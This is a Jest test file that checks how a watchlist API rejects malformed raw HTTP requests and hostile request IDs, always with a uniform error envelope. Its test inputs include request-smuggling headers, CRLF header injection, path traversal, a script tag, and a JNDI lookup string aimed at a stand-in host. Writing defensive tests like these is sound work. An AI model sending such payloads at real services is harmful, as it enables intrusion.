// Every error in the one envelope with its request id, whoever refuses the request: the socket's parser, the router, the
// framework or the service. What is wrong with bodies and queries is in bad-inputs.spec.ts.
import { gzipSync } from 'node:zlib';
import { afterAll, beforeAll, describe, expect, it } from '@jest/globals';
import { ALLOWED_METHODS, OPERATIONS } from '../support/api-document.js';
import { callerOf, examplePath } from '../support/bad-inputs.js';
import { expectEnvelope } from '../support/envelope.js';
import { exchange, jsonMessage, message, transmit } from '../support/raw-http.js';
import { PASSWORD, Service, type User } from '../support/service.js';

const ITEMS = '/v1/watchlists/items';
const ADMIN = 'admin@example.org';
const LOGIN = 'POST /v1/auth/login';
const JSON_TYPE = 'Content-Type: application/json';

describe('errors', () => {
  let service: Service;
  let user: User;
  let admin: User;

  beforeAll(async () => {
    service = await Service.start({ ADMIN_EMAIL: ADMIN, ADMIN_PASSWORD: PASSWORD });
    [user, admin] = await Promise.all([service.newUser(), service.logIn(ADMIN)]);
  });
  afterAll(() => service.stop());

  it.each<[what: string, bytes: string | Uint8Array, status: number, code?: string]>([
    ['something that is not HTTP', 'How do you do?\r\n\r\n', 400],
    ['a TLS greeting', Uint8Array.of(0x16, 0x03, 0x01, 0x00, 0x05, 0x01, 0x00, 0x00, 0x01, 0x03), 400],
    ['an HTTP/2 preface', 'PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n', 400],
    ['a version of HTTP that is none', 'GET /health HTTP/3.7\r\nHost: localhost\r\n\r\n', 400],
    ['a method that is none', message('BREW /health'), 400],
    ['a method in small letters', message('get /health'), 400],
    ['no Host', 'GET /health HTTP/1.1\r\nConnection: close\r\n\r\n', 400],
    ['two Hosts', message('GET /health', ['HOST: elsewhere.example']), 400],
    ['a tunnel', message('CONNECT elsewhere.example:443'), 400],
    ['bare line feeds', 'GET /health HTTP/1.1\nHost: localhost\n\n', 400],
    ['a folded header', message('GET /health', ['X-Folded: a\r\n b']), 400],
    ['a space before a colon', message('GET /health', ['X-Spaced : a']), 400],
    ['a NUL in a header', message('GET /health', ['X-Request-ID: a\0b']), 400],
    ['a carriage return in a header', message('GET /health', ['X-Request-ID: a\rSet-Cookie: a=b']), 400],
    ['a path that is not ASCII', message('GET /h\u00e9alth'), 400],
    ['a length that is none', message(LOGIN, [JSON_TYPE, 'Content-Length: two'], '{}'), 400],
    ['a negative length', message(LOGIN, [JSON_TYPE, 'Content-Length: -2'], '{}'), 400],
    ['two lengths', message(LOGIN, [JSON_TYPE, 'Content-Length: 2', 'Content-Length: 3'], '{}'), 400],
    ['a length and chunks', message(LOGIN, [JSON_TYPE, 'Content-Length: 2', 'Transfer-Encoding: chunked'], '0\r\n\r\n'), 400],
    ['a chunk that is none', message(LOGIN, [JSON_TYPE, 'Transfer-Encoding: chunked'], 'zz\r\n{}\r\n0\r\n\r\n'), 400],
    ['an undecodable path', message(`GET ${ITEMS}/%ff`), 400],
    ['an undecodable query', message('GET /v1/watchlists?q=%ff'), 400],
    ['a path parameter that is too long', message(`GET ${ITEMS}/${'a'.repeat(5_000)}`), 414],
    ['an expectation nobody meets', message('GET /health', ['Expect: tea']), 417],
    ['a header that is too long', message('GET /health', [`X-Long: ${'a'.repeat(20_000)}`]), 431],
    [
      'too many headers',
      message(
        'GET /health',
        Array.from({ length: 3_000 }, (_, index) => `X-${index}: a`),
      ),
      431,
    ],
    ['a path that is too long', message(`GET /${'a'.repeat(20_000)}`), 431],
    [
      'a chunk extension that is too long',
      message(LOGIN, [JSON_TYPE, 'Transfer-Encoding: chunked'], `2;${'a'.repeat(20_000)}\r\n{}`),
      413,
      'payload_too_large',
    ],
    [
      'chunks that are too much',
      message(LOGIN, [JSON_TYPE, 'Transfer-Encoding: chunked'], `11170\r\n${'a'.repeat(70_000)}\r\n0\r\n\r\n`),
      413,
      'payload_too_large',
    ],
    [
      'a transfer coding',
      message(LOGIN, [JSON_TYPE, 'Transfer-Encoding: gzip, chunked'], '2\r\n{}\r\n0\r\n\r\n'),
      415,
      'unsupported_media_type',
    ],
    ['a body without a type', message(LOGIN, ['Content-Length: 2'], '{}'), 415, 'unsupported_media_type'],
    ['a path with dots', message('GET /v1/../health'), 404, 'not_found'],
    ['a target that is a host alone', message('GET http://elsewhere.example'), 404, 'not_found'],
    ['a path that climbs out of the docs', message('GET /docs/..%2f..%2fpackage.json'), 404, 'not_found'],
    ['a trace', message('TRACE /health'), 405, 'method_not_allowed'],
    ['a foreign target without a token', message('GET http://elsewhere.example/v1/auth/me'), 401, 'not_authenticated'],
  ])('are in the envelope for %s', async (_, bytes, status, code = 'malformed_request') => {
    const answer = await exchange(service.url, bytes);

    expect(answer.status).toBe(status);
    expectEnvelope(answer, code);
  });

  it('leave the connection open for the next request', async () => {
    const received = await transmit(service.url, `GET /v2 HTTP/1.1\r\nHost: localhost\r\n\r\n${message('GET /health')}`);

    expect([...received.matchAll(/HTTP\/1\.1 (\d+)/g)].map(([, status]) => status)).toEqual(['404', '200']);
  });

  it('do not meet a request whose target is a whole URL, for it is a good one', async () => {
    const answer = await exchange(service.url, message('GET http://elsewhere.example/health'));

    expect(answer).toMatchObject({ status: 200, body: { status: 'ok' } });
  });

  describe.each([
    ['a success', '/health', 200],
    ['an error', '/v1/auth/me', 401],
  ])('with %s', (_, path, status) => {
    it.each(['a', 'trace:01.A_b-C', 'x'.repeat(128)])("answer with the caller's own request id %p", async (id) => {
      const answer = await exchange(service.url, message(`GET ${path}`, [`X-Request-ID: ${id}`]));

      expect(answer).toMatchObject({ status, ...(status >= 400 && { body: { request_id: id } }) });
      expect(answer.headers.get('x-request-id')).toBe(id);
    });

    it.each([
      ['too long', 'x'.repeat(129)],
      ['empty', ''],
      ['with a space', 'a b'],
      ['with markup', '<script>alert(1)</script>'],
      ['with an escaped line break', 'a%0d%0aSet-Cookie:%20a=b'],
      ['with a line break in Unicode', 'a\u010d\u010aSet-Cookie: a=b'],
      ['with a quote', '"a"'],
      ['for a log lookup', '${jndi:ldap://elsewhere.example/a}'],
      ['that is not ASCII', '\u00e9'],
      ['given twice', 'a\r\nX-Request-ID: b'],
    ])('replace a request id %s', async (__, id) => {
      const answer = await exchange(service.url, message(`GET ${path}`, [`X-Request-ID: ${id}`]));

      expect(answer.status).toBe(status);
      expect(answer.headers.get('x-request-id')).toMatch(/^[0-9a-f]{8}-[0-9a-f]{4}-7[0-9a-f]{3}-[89ab][0-9a-f]{3}-[0-9a-f]{12}$/);
      expect(answer.headers.get('set-cookie')).toBeNull();
      if (status >= 400) expectEnvelope(answer);
    });
  });

  it.each([...ALLOWED_METHODS])('are 405 with `Allow` for every other method on %s', async (path, allowed) => {
    const others = ['GET', 'HEAD', 'POST', 'PUT', 'PATCH', 'DELETE', 'OPTIONS', 'TRACE', 'PROPFIND'].filter(
      (method) => !allowed.includes(method),
    );

    for (const method of others) {
      const answer = await exchange(service.url, message(`${method} ${examplePath(path)}`));

      expect({ method, status: answer.status, allow: answer.headers.get('allow') }).toEqual({
        method,
        status: 405,
        allow: allowed.join(', '),
      });
      if (method !== 'HEAD') expectEnvelope(answer, 'method_not_allowed');
    }
  });

  it.each(OPERATIONS)('are the same with and without a trailing slash on $method $path', async ({ method, path }) => {
    // One each: some of them end the session or the account.
    const [one, two] = [await service.newUser(), await service.newUser()];
    const [plain, slashed] = [await one.request(method, examplePath(path)), await two.request(method, `${examplePath(path)}/`)];

    expect({ status: slashed.status, code: slashed.body?.code }).toEqual({ status: plain.status, code: plain.body?.code });
  });

  it.each(OPERATIONS.filter(({ method }) => method === 'GET'))(
    'and successes of GET $path have the same head without a body for HEAD',
    async (operation) => {
      const caller = callerOf(operation) === 'admin' ? admin : user;
      const [get, head] = [await caller.get(examplePath(operation.path)), await caller.request('HEAD', examplePath(operation.path))];

      expect({ status: head.status, type: head.headers.get('content-type'), text: head.text }).toEqual({
        status: get.status,
        type: get.headers.get('content-type'),
        text: '',
      });
      expect(head.headers.get('x-request-id')).toBeTruthy();
    },
  );

  it.each([
    '/',
    '/v1',
    '/v2/watchlists',
    '/v2',
    '/watchlists',
    '/V1/watchlists',
    '//v1/watchlists',
    '/v1/watchlists/items/x/y',
    '/docs/nothing',
    '/constructor',
  ])('are 404 for the unknown path %s, with and without a token', async (path) => {
    for (const caller of [user, service]) {
      const answer = await caller.get(path);

      expect(answer.status).toBe(404);
      expectEnvelope(answer, 'not_found');
    }
  });

  it('tell nobody without a token that the body is malformed', async () => {
    const [known, unknown] = await Promise.all([
      user.post(ITEMS, undefined, { rawBody: '{' }),
      service.post(ITEMS, undefined, { rawBody: '{' }),
    ]);

    expect([known.status, unknown.status]).toEqual([400, 401]);
    expectEnvelope(known, 'malformed_request');
    expectEnvelope(unknown, 'not_authenticated');
    expect(unknown.headers.get('www-authenticate')).toBe('Bearer');
  });

  it.each<[type: string, headers: Record<string, string>, rawBody: string | Uint8Array]>([
    ['text', { 'Content-Type': 'text/plain' }, '{}'],
    ['a form', { 'Content-Type': 'application/x-www-form-urlencoded' }, 'title=Dune&media_type=movie'],
    ['UTF-16', { 'Content-Type': 'application/json; charset=utf-16le' }, Buffer.from('{}', 'utf16le')],
    ['gzip', { 'Content-Encoding': 'gzip' }, gzipSync('{}')],
  ])('are 415 for a body in %s', async (_, headers, rawBody) => {
    const answer = await user.post(ITEMS, undefined, { headers, rawBody });

    expect(answer.status).toBe(415);
    expectEnvelope(answer, 'unsupported_media_type');
  });

  it.each(['application/json', 'application/json; charset=utf-8', 'application/json;charset="UTF-8"', 'APPLICATION/JSON'])(
    'are not 415 for %s',
    async (type) => {
      const answer = await user.post(ITEMS, { title: crypto.randomUUID(), media_type: 'movie' }, { headers: { 'Content-Type': type } });

      expect(answer.status).toBe(201);
    },
  );

  it('are 413 for a body over 64 KiB, said before it is sent', async () => {
    const promised = message(`POST ${ITEMS}`, [JSON_TYPE, 'Content-Length: 65537', `Authorization: Bearer ${user.token}`]);
    const answer = await exchange(service.url, promised);

    expect(answer.status).toBe(413);
    expectEnvelope(answer, 'payload_too_large');
  });

  it('tell nothing of a password that was refused', async () => {
    const password = 'a secret of mine\0';
    const answer = await exchange(service.url, jsonMessage('POST /v1/auth/register', JSON.stringify({ email: 'a@example.org', password })));

    expect(answer.status).toBe(400);
    expectEnvelope(answer, 'validation_failed');
    expect(answer.text).not.toContain('secret');
  });
});
